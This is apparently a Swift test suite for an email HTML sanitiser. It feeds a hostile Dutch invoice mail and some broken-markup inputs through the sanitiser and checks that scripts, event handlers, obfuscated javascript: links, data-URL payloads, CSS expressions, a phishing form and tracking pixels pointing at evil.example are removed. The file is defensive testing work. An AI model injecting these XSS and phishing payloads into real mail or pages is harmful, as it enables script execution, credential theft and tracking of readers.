import CommHubGateways
import Foundation
import Testing

/// The mail HTML sanitiser against a hostile mail: nothing that runs or
/// loads survives, whatever spelling it hides behind; what a reader needs
/// (text, tables, links, inline images of the mail itself) does.
@Suite struct OutlookHTMLTests {
    static let hostile = #"""
    <!DOCTYPE html><html><head><title>Factuur</title>
    <meta http-equiv="refresh" content="0;url=https://evil.example/phish">
    <base href="https://evil.example/">
    <link rel="stylesheet" href="https://evil.example/track.css">
    <style>body { background: url(https://evil.example/bg.png) } </style>
    <script>alert('head')</script></head>
    <body onload="steal()" background="https://evil.example/body.png">
    <!--[if mso]><img src="https://evil.example/mso.png"><![endif]-->
    <p style="color: red; background-image: url('https://evil.example/p.png'); font-weight: bold">Beste klant,</p>
    <p>Uw order #12345 is verzonden &amp; onderweg&nbsp;&#8212; zie <a href="https://track.example/12345" onclick="x()">de status</a>.</p>
    <img src="https://tracker.example/pixel.gif?u=1" width="1" height="1" alt="">
    <img src="cid:logo@01D9" alt="Logo">
    <img src=x onerror=alert(1)>
    <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">
    <img srcset="https://evil.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
    <a href="javascript:alert(1)">klik</a>
    <a href="java&#x09;script:alert(2)">tab</a>
    <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(3)">entities</a>
    <a href="JaVaScRiPt:alert(4)">case</a>
    <a href="vbscript:msgbox(5)">vb</a>
    <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data</a>
    <a href="mailto:klantenservice@chargecars.nl">mail ons</a>
    <form action="https://evil.example/login"><input name="password" type="password"><button formaction="https://evil.example">OK</button>Login</form>
    <iframe src="https://evil.example/frame"></iframe>
    <svg><script>alert('svg')</script><a xlink:href="javascript:alert(7)"><text>svgtext</text></a></svg>
    <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
    <div style="behavior: url(x.htc); color: blue">gedrag</div>
    <div style="width: expression(alert(8)); margin: 0">expr</div>
    <table border="1" cellpadding="2"><tr><td bgcolor="#eeeeee">Artikel</td><td>Prijs</td></tr>
    <tr><td>Laadpaal</td><td>&euro; 899</td></tr></table>
    <scr<script>ipt>alert(9)</script>
    <p>Met vriendelijke groet,<br>ChargeCars</p>
    <video poster="https://evil.example/poster.png"><source src="https://evil.example/v.mp4"></video>
    <plaintext><script>alert(10)</script>
    """#

    @Test func aHostileMailLosesEverythingThatRunsOrLoads() {
        let s = MailHTML.sanitise(Self.hostile, inlineImages: ["logo@01d9": "/api/attachments/" + String(repeating: "a", count: 64)])
        let lower = s.html.lowercased()
        for bad in ["<script", "javascript:", "vbscript:", "onload", "onerror", "onclick", "<meta", "<base", "<link", "<style",
                    "<iframe", "<form", "<input", "<button", "<svg", "<object", "<embed", "<video", "<source", "evil.example",
                    "tracker.example", "url(", "expression", "behavior", "srcset", "background=", "data:image/svg", "data:text",
                    "formaction", "xlink", "<plaintext", "<title", "mso.png", "<!--"] {
            #expect(!lower.contains(bad), "\(bad) survived: \(s.html)")
        }
        // What a reader needs stays.
        #expect(s.html.contains(#"<a href="https://track.example/12345" target="_blank" rel="noopener noreferrer nofollow">de status</a>"#))
        #expect(s.html.contains(#"<a href="mailto:klantenservice@chargecars.nl""#))
        #expect(s.html.contains(#"<img src="/api/attachments/\#(String(repeating: "a", count: 64))" alt="Logo">"#))
        #expect(s.html.contains(#"src="data:image/png;base64,iVBORw0KGgo=""#))
        #expect(s.html.contains(##"<td bgcolor="#eeeeee">Artikel</td>"##))
        #expect(s.html.contains(#"<p style="color: red; font-weight: bold">Beste klant,</p>"#))
        #expect(s.html.contains(#"<div style="color: blue">gedrag</div>"#))
        #expect(s.html.contains(#"<div style="margin: 0">expr</div>"#))
        #expect(s.blockedImages >= 3)  // the tracking pixel, `src=x`, the SVG data URL
        #expect(s.referencedContentIDs == ["logo@01d9"])
        // The one `alert(` left is the harmless text of `<scr<script>ipt>alert(9)`, escaped.
        #expect(s.html.components(separatedBy: "alert(").count == 2)
        #expect(s.html.contains("ipt&gt;alert(9)"))
    }

    @Test func theTextRenditionIsCleanAndReadable() {
        let s = MailHTML.sanitise(Self.hostile)
        #expect(s.text.hasPrefix("Beste klant,\n\nUw order #12345 is verzonden & onderweg — zie de status (https://track.example/12345)."), "\(s.text)")
        #expect(s.text.contains("Artikel Prijs"))
        #expect(s.text.contains("Laadpaal € 899"))
        #expect(s.text.contains("Met vriendelijke groet,\nChargeCars"))
        #expect(s.text.contains("[Logo]"))
        for gone in ["alert(1)", "alert('", "alert(10)", "Factuur", "body {", "svgtext", "password"] {
            #expect(!s.text.contains(gone), "\(gone) in \(s.text)")
        }
        #expect(!s.text.contains("\n\n\n"))
    }

    @Test func anUnmappedCidImageIsDroppedNotLeftPointingAnywhere() {
        let s = MailHTML.sanitise(#"<p>Foto:</p><img src="cid:unknown-part" alt="foto">"#)
        #expect(s.html == #"<p>Foto:</p><img alt="foto">"#)
        #expect(s.referencedContentIDs == ["unknown-part"])
    }

    @Test func attributeValuesAreReescapedSoTheBrowserSeesWhatWasChecked() {
        let s = MailHTML.sanitise(#"<a href="https://x.example/?a=1&amp;b=&quot;2&quot;" title='he said "hi" <b>'>x</a>"#)
        #expect(s.html == #"<a href="https://x.example/?a=1&amp;b=&quot;2&quot;" title="he said &quot;hi&quot; &lt;b&gt;" target="_blank" rel="noopener noreferrer nofollow">x</a>"#)
    }

    @Test func brokenMarkupNeverLetsATagThrough() {
        for input in ["<img src=\"https://e.example/x", "<a href='javascript:alert(1)", "<<script>alert(1)//<</script>",
                      "<div <script>alert(1)</script>", "</script><script>alert(1)</script>", "<svg><p>", "<!-- <script>alert(1)</script> -->",
                      "<style>a{}</style <script>alert(1)</script>"] {
            let s = MailHTML.sanitise(input)
            #expect(!s.html.lowercased().contains("<script"), "\(input) → \(s.html)")
            #expect(!s.html.contains("https://e.example"), "\(input) → \(s.html)")
            #expect(!s.html.lowercased().contains("javascript"), "\(input) → \(s.html)")
        }
    }

    @Test func entitiesDecodeAsBrowsersDoIncludingWithoutSemicolons() {
        #expect(MailHTML.decodeEntities("&lt;a&gt; &amp;amp; &#106;&#x61;v&#97 &euml;&unknown; &#0; &#xD800;") == "<a> &amp; jav\u{61} ë&unknown; \u{FFFD} \u{FFFD}")
    }

    @Test func aHugeMailIsCutAtItsBound() {
        let big = String(repeating: "<p>abc</p>", count: MailHTML.maxInputBytes / 10 + 1000)
        let s = MailHTML.sanitise(big)
        #expect(s.html.utf8.count <= MailHTML.maxInputBytes + 16)
    }

    @Test func plainTextBecomesEscapedHTML() {
        #expect(MailHTML.fromText("a < b\r\nc & d") == "a &lt; b<br>\nc &amp; d")
    }
}
